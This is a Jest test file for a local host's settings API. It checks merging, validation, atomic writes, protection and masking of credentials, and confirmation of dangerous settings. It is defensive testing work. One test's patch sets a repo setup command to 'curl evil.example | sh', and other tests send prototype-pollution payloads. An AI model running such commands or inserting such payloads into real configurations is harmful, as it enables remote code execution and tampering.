/** The settings rules, one by one, through a real socket of a real host. */
import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import { describe, expect, test } from '@jest/globals'
import { WebSocket } from 'undici'
import { type CommandProcess, keepForFile, serve } from '../support/command-process.ts'
import { LocalSystem } from '../support/local-system.ts'
import { tempFolder } from '../support/temp-folder.ts'
import { until } from '../support/until.ts'

const SECRETS = {
  tracker: {
    apiKey: 'planted-tracker-key',
    refreshToken: 'planted-refresh',
    tokenExpiresAt: '2031-01-01T00:00:00.000Z',
  },
  codehost: { token: 'planted-codehost-token' },
  agent: {
    agentAApiKey: 'planted-a-key',
    agentAOauthToken: 'planted-a-oauth',
    agentBApiKey: 'planted-b-key',
    agentBLogin: 'planted-b-login',
    agentCApiKey: 'planted-c-key',
    agentCLogin: 'planted-c-login',
  },
  connect: { trackerClientSecret: 'planted-client-secret' },
}

/** No process listens there, so the planted secrets are never sent to a real provider. */
const NOBODY = 'http://127.0.0.1:9'
const CONFIGURED = {
  ...SECRETS,
  tracker: { ...SECRETS.tracker, apiUrl: NOBODY },
  codehost: { ...SECRETS.codehost, apiUrl: NOBODY },
}

interface Answer {
  readonly status: number
  readonly body: {
    readonly config?: Record<string, never>
    readonly applied?: string
    readonly error?: string
  }
}

/** These hosts start no worker of their own. */
const ALONE = { worker: { local: false } }

function startHost(config: object = {}): CommandProcess {
  const dataDir = tempFolder()
  writeFileSync(join(dataDir, 'config.json'), JSON.stringify({ server: { port: 0 }, ...ALONE, ...config }), {
    mode: 0o600,
  })
  return serve(dataDir)
}

/** Starts a host that several tests share. */
function sharedHost(config: object = {}): () => Promise<CommandProcess> {
  let served: CommandProcess | undefined
  return async () => {
    served ??= keepForFile(startHost(config))
    await served.waitForLaunch()
    return served
  }
}

/** For patches that a host refuses: the tests check that its file stays as it was. */
const plainHost = sharedHost({ sandbox: { concurrency: 3 } })
const configuredHost = sharedHost(CONFIGURED)
/** For patches that a host applies: each test looks only at the settings that it changes itself. */
const changedHost = sharedHost()
const changedConfiguredHost = sharedHost(CONFIGURED)

const readStoredText = (served: CommandProcess) => readFileSync(join(served.dataDir, 'config.json'), 'utf8')
const readStoredConfig = (served: CommandProcess) => {
  const { worker: _, ...rest } = JSON.parse(readStoredText(served)) as Record<string, unknown>
  return rest
}
const patch = async (served: CommandProcess, change: unknown, confirm?: readonly string[]): Promise<Answer> =>
  (await served.request('/api/settings', { method: 'PUT', body: { patch: change, confirm } })) as Answer

async function expectRefused(served: CommandProcess, change: unknown, reason: RegExp): Promise<void> {
  const before = readStoredText(served)
  const answer = await patch(served, change)
  expect(answer).toMatchObject({ status: 400, body: { error: expect.stringMatching(reason) } })
  expect(Object.keys(answer.body)).toEqual(['error'])
  expect(readStoredText(served)).toBe(before)
}

describe('rule 1: merging', () => {
  test('objects merge key by key, arrays and scalars replace, null deletes a key', async () => {
    const served = startHost({
      sandbox: { concurrency: 3, allowedHosts: ['a.example', 'b.example'] },
      repos: { first: { remote: 'o/first', label: 'x' }, second: { remote: 'o/second' } },
    })
    await served.waitForLaunch()
    const answer = await patch(served, {
      sandbox: { retentionHours: 5, allowedHosts: ['b.example'] },
      repos: { first: { label: 'y' }, second: null, third: { remote: 'o/third' } },
    })
    expect(answer.status).toBe(200)
    expect(readStoredConfig(served)).toEqual({
      server: { port: 0 },
      sandbox: { concurrency: 3, retentionHours: 5, allowedHosts: ['b.example'] },
      repos: { first: { remote: 'o/first', label: 'y' }, third: { remote: 'o/third' } },
    })
  })

  test('a deleted key has its default again', async () => {
    const served = await changedHost()
    await patch(served, { sandbox: { concurrency: 7 } })
    const answer = await patch(served, { sandbox: { concurrency: null } })
    expect(answer.body.config).toMatchObject({ sandbox: { concurrency: 2 } })
  })
})

describe('rule 2: the merged result is validated before anything is written', () => {
  test.each([
    ['a wrong type', { server: { port: 'x' } }, /^\/patch\/server\/port: /],
    ['out of bounds', { sandbox: { concurrency: 65 } }, /^\/patch\/sandbox\/concurrency: /],
    ['an unknown key', { sandbox: { colour: 'red' } }, /^\/patch\/sandbox\/colour: /],
    ['no loopback', { server: { host: '0.0.0.0' } }, /^\/patch\/server\/host: /],
    ['not an http address', { storage: { publicBaseUrl: 'ftp://x' } }, /^\/patch\/storage\/publicBaseUrl: /],
    ['incomplete', { repos: { a: { label: 'no remote' } } }, /^\/patch\/repos\/a\/remote: /],
    [
      'wrong only together with what is stored',
      { tracker: { driver: 'local' } },
      /^\/patch\/tracker\/path: /,
    ],
  ])('%s: 400, prefixed by the field path, nothing written', async (_what, change, reason) => {
    await expectRefused(await plainHost(), change, reason)
  })

  test('one wrong field in a patch prevents the others from being written', async () => {
    const served = await plainHost()
    await expectRefused(served, { sandbox: { concurrency: 5, retentionHours: -1 } }, /retentionHours/)
    expect(await served.request('/api/config')).toMatchObject({ body: { sandbox: { concurrency: 3 } } })
  })

  test.each([
    ['__proto__', '{"patch":{"__proto__":{"polluted":1}}}'],
    ['constructor', '{"patch":{"repos":{"constructor":{"remote":"o/n"}}}}'],
    ['prototype', '{"patch":{"sandbox":{"prototype":{}}}}'],
    ['33 levels', `{"patch":${'{"a":'.repeat(33)}1${'}'.repeat(34)}`],
    ['a number that does not come back', '{"patch":{"sandbox":{"retentionHours":1e999}}}'],
  ])('%s is refused', async (_what, body) => {
    const served = await plainHost()
    const { url, token } = await served.waitForLaunch()
    const before = readStoredText(served)
    const answer = await fetch(`${url}/api/settings`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body,
    })
    expect(answer.status).toBe(400)
    expect(readStoredText(served)).toBe(before)
  })
})

describe('settings that give power over the machine', () => {
  const attack = {
    repos: { web: { remote: 'o/web', setup: 'curl evil.example | sh' } },
    sandbox: { concurrency: 9 },
  }

  test('a patch changes none of them unless it names them: 409 with the keys, and the file stays', async () => {
    const served = await plainHost()
    const before = readStoredText(served)
    for (const confirm of [undefined, [], ['repos.web.cloneUrl'], ['repos.web.setup', 'tracker.apiUrl']]) {
      const answer = await served.request('/api/settings', {
        method: 'PUT',
        body: { patch: attack, confirm },
      })
      expect(answer).toMatchObject({
        status: 409,
        body: { error: expect.stringMatching(/^repos\.web\.setup decides /), confirm: ['repos.web.setup'] },
      })
    }
    expect(readStoredText(served)).toBe(before)
    expect(await served.request('/api/config')).toMatchObject({ body: { sandbox: { concurrency: 3 } } })
  })

  test('a patch that names exactly them is applied, and so is an edit of the file', async () => {
    const served = await changedHost()
    const body = { patch: attack, confirm: ['repos.web.setup'] }
    expect(await served.request('/api/settings', { method: 'PUT', body })).toMatchObject({ status: 200 })
    expect(readStoredConfig(served)).toMatchObject(attack)
    const edited = { server: { port: 0 }, ...ALONE, repos: { web: { remote: 'o/web', setup: 'make' } } }
    writeFileSync(join(served.dataDir, 'config.json'), JSON.stringify(edited))
    await until('the edit is in force', async () => {
      const { body: config } = await served.request('/api/config')
      return Object(config).repos?.web?.setup === 'make'
    })
  })
})

describe('rule 3: the file is replaced atomically', () => {
  test('a new file each time, readable by its owner only, without leftovers', async () => {
    const served = await changedHost()
    const path = join(served.dataDir, 'config.json')
    const before = statSync(path).ino
    await patch(served, { sandbox: { concurrency: 5 } })
    expect(statSync(path).ino).not.toBe(before)
    expect(statSync(path).mode & 0o777).toBe(0o600)
    expect(readdirSync(served.dataDir).filter((name) => name.startsWith('config.json'))).toEqual([
      'config.json',
    ])
  })

  test('patches at the same moment are applied one after the other: none is lost', async () => {
    const served = await changedHost()
    const answers = await Promise.all(
      Array.from({ length: 30 }, (_, at) => patch(served, { repos: { [`r${at}`]: { remote: `o/r${at}` } } })),
    )
    expect(answers.map((answer) => answer.status)).toEqual(answers.map(() => 200))
    const stored = Object.keys(readStoredConfig(served).repos as object)
    expect(stored.filter((name) => /^r\d+$/.test(name))).toHaveLength(30)
  })
})

describe('rule 4: credentials', () => {
  const credentials = Object.entries({
    tracker: SECRETS.tracker,
    codehost: SECRETS.codehost,
    agent: SECRETS.agent,
  }).flatMap(([section, fields]) =>
    Object.entries(fields).map(([key, value]) => [section, key, value] as const),
  )

  test.each(credentials)('%s.%s may not be set', async (section, key, value) => {
    await expectRefused(
      await plainHost(),
      { [section]: { [key]: value } },
      new RegExp(`^/patch/${section}/${key}: `),
    )
  })

  test.each(credentials)('%s.%s may not be changed, masked, emptied or deleted', async (section, key) => {
    const served = await configuredHost()
    for (const value of ['2032-01-01T00:00:00.000Z', '***', '', null]) {
      await expectRefused(served, { [section]: { [key]: value } }, new RegExp(`^/patch/${section}/${key}: `))
    }
  })

  test.each(['tracker', 'codehost', 'agent'])(
    'deleting the section %s is refused, because it contains credentials',
    async (section) => {
      await expectRefused(await configuredHost(), { [section]: null }, new RegExp(`^/patch/${section}/`))
    },
  )

  test('a patch of other fields keeps the credentials', async () => {
    const served = await changedConfiguredHost()
    expect((await patch(served, { tracker: { pollSeconds: 60 } })).status).toBe(200)
    expect(readStoredConfig(served)).toMatchObject(SECRETS)
  })

  test('connect.trackerClientSecret may be set and deleted, but not to the mask', async () => {
    const served = await changedHost()
    const set = await patch(served, { connect: { trackerClientSecret: 'planted-new-secret' } })
    expect(set).toMatchObject({ status: 200, body: { config: { connect: { trackerClientSecret: '***' } } } })
    expect(readStoredConfig(served)).toMatchObject({ connect: { trackerClientSecret: 'planted-new-secret' } })
    await expectRefused(
      served,
      { connect: { trackerClientSecret: '***' } },
      /^\/patch\/connect\/trackerClientSecret: /,
    )
    expect((await patch(served, { connect: { trackerClientSecret: null } })).status).toBe(200)
    expect(JSON.stringify(readStoredConfig(served))).not.toContain('trackerClientSecret')
  })
})

describe('rule 5: live or restart', () => {
  test.each<[object, string, string?]>([
    [{ server: { port: 4999 } }, 'restart'],
    [{ server: { host: '127.0.0.2' } }, 'restart'],
    [{ fleet: { host: '10.0.0.1', insecure: true } }, 'restart', 'fleet.insecure'],
    [{ fleet: { port: 4999 } }, 'restart'],
    [{ sandbox: { concurrency: 9 } }, 'live'],
    [{ fleet: { port: 4401 } }, 'live'],
    [{}, 'live'],
  ])('%j is %s', async (change, applied, ...confirm) => {
    const served = await changedHost()
    const keys = confirm.flatMap((key) => key ?? [])
    expect(await patch(served, change, keys)).toMatchObject({ status: 200, body: { applied } })
    const before = { server: { port: 0, host: null }, fleet: null, sandbox: null }
    expect(await patch(served, before, keys)).toMatchObject({ status: 200 })
  })

  test('a live setting takes effect at once: a refused origin is accepted', async () => {
    const served = await changedHost()
    const { url } = await served.waitForLaunch()
    const knock = async () =>
      (await fetch(`${url}/api/health`, { headers: { origin: 'https://dash.example' } })).status
    expect(await knock()).toBe(403)
    const change = { server: { allowedOrigins: ['https://dash.example'] } }
    expect(await patch(served, change, ['server.allowedOrigins'])).toMatchObject({
      status: 200,
      body: { applied: 'live' },
    })
    expect(await knock()).toBe(200)
  })
})

describe('a change with which the host would not start again', () => {
  const folder = tempFolder()
  const [certFile, keyFile] = [join(folder, 'cert.pem'), join(folder, 'key.pem')]
  const secured = { fleet: { host: '0.0.0.0', tls: { certFile, keyFile } } }

  test('is refused with the field and the cure', async () => {
    const served = await plainHost()
    await expectRefused(
      served,
      { fleet: { host: '0.0.0.0' } },
      /^\/patch\/fleet\/host: 0\.0\.0\.0 .*fleet\.tls.*"insecure": true/,
    )
    await expectRefused(
      served,
      { server: { port: 4400 }, fleet: { host: '127.0.0.1', port: 4400 } },
      /^\/patch\/fleet\/port: 4400 .*server\.port or fleet\.port/,
    )
  })

  test('is refused while the files of fleet.tls are missing, no files, or no certificate and its key', async () => {
    const served = await plainHost()
    await expectRefused(served, secured, /^\/patch\/fleet\/tls: .*cert\.pem.*ENOENT/)
    writeFileSync(certFile, 'nonsense')
    writeFileSync(keyFile, 'nonsense')
    await expectRefused(served, secured, /^\/patch\/fleet\/tls: .*key\.pem are not a certificate and its key/)
    const endless = { certFile: '/dev/zero', keyFile: '/dev/zero' }
    await expectRefused(
      served,
      { fleet: { host: '0.0.0.0', tls: endless } },
      /\/dev\/zero is not a plain file/,
    )
  })

  test('is accepted with a certificate and its key, and starts', async () => {
    const served = startHost({ fleet: { port: 0 } })
    await served.waitForLaunch()
    const made = ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes']
    const named = ['-subj', '/CN=switchyard', '-keyout', keyFile, '-out', certFile]
    execFileSync('openssl', [...made, ...named], { stdio: 'ignore' })
    expect(await patch(served, secured)).toMatchObject({ status: 200, body: { applied: 'restart' } })
    served.process.kill('SIGTERM')
    expect(await served.exit).toBe(0)
    const again = serve(served.dataDir)
    expect((await again.waitForLaunch()).fleetUrl).toMatch(/^wss:/)
  })

  test('is ignored when a hand edit makes it, and the log names the field', async () => {
    const served = startHost({ sandbox: { concurrency: 3 } })
    await served.waitForLaunch()
    const edit = { server: { port: 0 }, ...ALONE, sandbox: { concurrency: 8 }, fleet: { host: '0.0.0.0' } }
    writeFileSync(join(served.dataDir, 'config.json'), JSON.stringify(edit))
    await until('the log line', () => served.err().includes('/fleet/host: 0.0.0.0 lets other machines'))
    expect(await served.request('/api/config')).toMatchObject({ body: { sandbox: { concurrency: 3 } } })
  })
})

describe('rule 6: hand edits', () => {
  test('are applied without a restart and broadcast; an invalid one is ignored, the next valid one applied', async () => {
    const served = await changedConfiguredHost()
    const { url, token } = await served.waitForLaunch()
    const frames: { type: string; config?: { sandbox: { concurrency: number } } }[] = []
    const socket = new WebSocket(`${url.replace('http', 'ws')}/ws?token=${token}`)
    socket.addEventListener('message', ({ data }) => {
      const frame = JSON.parse(String(data))
      if (frame.type === 'hello' || frame.type === 'config') frames.push(frame)
    })
    await until('hello', () => frames.length === 1)
    const edit = (config: object) =>
      writeFileSync(
        join(served.dataDir, 'config.json'),
        JSON.stringify({ server: { port: 0 }, ...ALONE, ...CONFIGURED, ...config }),
      )

    edit({ sandbox: { concurrency: 8 } })
    await until('the push', () => frames.length === 2)
    edit({ sandbox: { concurrency: 800 } })
    await until('the log line', () => served.err().includes('/sandbox/concurrency'))
    expect(await served.request('/api/config')).toMatchObject({ body: { sandbox: { concurrency: 8 } } })
    edit({ sandbox: { concurrency: 9 } })
    await until('the second push', () => frames.length === 3)
    expect(frames.slice(1).map((frame) => frame.config?.sandbox.concurrency)).toEqual([8, 9])
    socket.close()
    for (const secret of Object.values(SECRETS).flatMap((section) => Object.values(section))) {
      expect(JSON.stringify(frames)).not.toContain(secret)
    }
  })
})

describe('an editor that empties the file before it writes', () => {
  test('causes no error in the log, and the new configuration takes effect', async () => {
    const served = startHost(CONFIGURED)
    await served.waitForLaunch()
    const path = join(served.dataDir, 'config.json')
    const text = JSON.stringify({ server: { port: 0 }, ...ALONE, ...CONFIGURED, sandbox: { concurrency: 8 } })
    writeFileSync(path, '')
    await pause(300)
    writeFileSync(path, text.slice(0, 40))
    await pause(300)
    writeFileSync(path, text)
    await until('the edit', () => served.err().includes('the new configuration is in force'))
    expect(await served.request('/api/config')).toMatchObject({ body: { sandbox: { concurrency: 8 } } })
    expect(served.err()).not.toContain('"level":50')
  })
})

describe('masks', () => {
  test('every secret reads ***, wherever a configuration is shown', async () => {
    const served = await changedConfiguredHost()
    const shown = [
      (await served.request('/api/config')).body,
      (await patch(served, { sandbox: { concurrency: 3 } })).body.config,
    ]
    for (const config of shown) {
      expect(config).toMatchObject({
        tracker: { apiKey: '***', refreshToken: '***' },
        codehost: { token: '***' },
        connect: { trackerClientSecret: '***' },
      })
      for (const key of Object.keys(SECRETS.agent)) expect(config).toHaveProperty(['agent', key], '***')
      expect(JSON.stringify(config)).not.toContain('planted')
    }
  })
})

test('work that is under way is not redirected to another repository without a word', async () => {
  const system = await LocalSystem.open()
  system.writeTicket('ENG-1', ['say Done.'])
  await system.waitForStatus('ENG-1', 'queued')
  const patch = { repos: { plain: { remote: 'evil/web' } } }
  const change = (body: object) => system.host.request('/api/settings', { method: 'PUT', body })
  expect(await change({ patch })).toMatchObject({ status: 409, body: { confirm: ['repos.plain.remote'] } })
  expect(await change({ patch, confirm: ['repos.plain.remote'] })).toMatchObject({ status: 200 })
})
